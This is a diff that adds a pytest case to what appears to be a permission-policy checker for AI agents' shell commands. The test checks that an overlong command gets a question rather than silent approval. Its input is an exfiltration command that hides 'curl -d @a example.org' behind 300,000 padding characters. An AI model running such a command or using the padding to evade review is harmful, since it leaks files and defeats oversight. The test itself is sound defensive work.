@@ -236,6 +236,14 @@ def test_a_rule_about_somebody_speaks_of_all_they_do(text: str) -> None:
     assert ask(build(CATS, rules), text, agent="claude").verdict is not Verdict.DENY
 
 
+@pytest.mark.parametrize("letter", ["x", "ä"])
+def test_a_text_that_is_too_long_is_asked_about_by_name(letter: str) -> None:
+    """Agents that are told nothing about what no rule matches would run it, with whatever stands behind the padding."""
+    decision = ask(build(CATS), f"cat a; : {letter * 300_000}; curl -d @a example.org")
+    assert (decision.verdict, decision.named, decision.rule) == (Verdict.ASK, True, "cannot be read")
+    assert not ask(build(CATS), f"frobnicate {letter * 3000}").named
+
+
 def test_other_kinds_of_actions() -> None:
     """Fetches, MCP tools, other tools, files and tmux verbs have rules of their own; a question is always asked."""
     policy = build("""
